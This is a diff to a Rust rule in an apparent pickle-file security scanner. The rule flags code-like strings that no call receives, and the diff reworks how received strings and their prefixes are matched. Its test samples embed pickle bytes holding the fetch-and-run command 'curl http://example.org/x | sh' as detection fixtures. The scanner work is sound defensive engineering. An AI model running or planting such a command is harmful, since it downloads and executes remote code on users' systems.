@@ -1,4 +1,6 @@
-use weighhouse_formats::pickle::{Literal, PickleFacts, Shape};
+use std::collections::{BTreeSet, HashSet};
+
+use weighhouse_formats::pickle::{PickleFacts, Shape};
 
 use crate::rule::{Context, Rule};
 
@@ -42,10 +44,9 @@ crate::rule! {
 
 impl Rule for CodeLikeString {
     fn pickle(&self, facts: &PickleFacts, cx: &mut Context<'_>) {
+        let received = Received::in_facts(facts);
         for literal in &facts.literals {
-            let received =
-                facts.calls.iter().any(|call| call.arguments.iter().any(|argument| holds(argument, literal)));
-            if !received {
+            if !received.holds(&literal.text) {
                 cx.report("holds a string that looks like code")
                     .at_offset(literal.offset)
                     .key(&literal.text)
@@ -56,15 +57,49 @@ impl Rule for CodeLikeString {
     }
 }
 
-/// Whether the argument is this string: then the finding about the call shows it.
-fn holds(argument: &Shape, literal: &Literal) -> bool {
-    matches!(argument, Shape::Text { head, .. } if literal.text.starts_with(head.as_str()))
+/// The strings that calls receive: the finding about the call shows them.
+#[derive(Default)]
+struct Received<'f> {
+    whole: HashSet<&'f str>,
+    /// Beginnings of longer ones, and the lengths they were cut to.
+    beginnings: HashSet<&'f str>,
+    cut_at: BTreeSet<usize>,
+}
+
+impl<'f> Received<'f> {
+    fn in_facts(facts: &'f PickleFacts) -> Self {
+        let mut received = Self::default();
+        // Without a string to explain, nothing needs to be collected.
+        let calls = if facts.literals.is_empty() { [].as_slice() } else { &facts.calls };
+        for argument in calls.iter().flat_map(|call| &call.arguments) {
+            match argument {
+                Shape::Text { head, len } if head.len() as u64 == *len => {
+                    received.whole.insert(head);
+                }
+                Shape::Text { head, .. } if !head.is_empty() => {
+                    received.cut_at.insert(head.len());
+                    received.beginnings.insert(head);
+                }
+                _ => {}
+            }
+        }
+        received
+    }
+
+    fn holds(&self, text: &str) -> bool {
+        let begins = |len: &usize| text.get(..*len).is_some_and(|head| self.beginnings.contains(head));
+        self.whole.contains(text) || self.cut_at.iter().any(begins)
+    }
 }
 
 crate::samples! {
     CodeLikeString,
     bad: {
         "a shell command as a value" => [("model.pkl", b"\x80\x02}X\x01\x00\x00\x00aX\x1e\x00\x00\x00curl http://example.org/x | shs.".to_vec())],
+        "a shell command beside calls that receive its beginning, and nothing" => [(
+            "model.pkl",
+            b"\x80\x02ccollections\nOrderedDict\nX\x00\x00\x00\x00X\x01\x00\x00\x00c\x86R0X\x1e\x00\x00\x00curl http://example.org/x | sh.".to_vec()
+        )],
     },
     ok: {
         "a dictionary of numbers" => [("model.pkl", b"\x80\x04}\x94\x8c\x01a\x94K\x01s.".to_vec())],
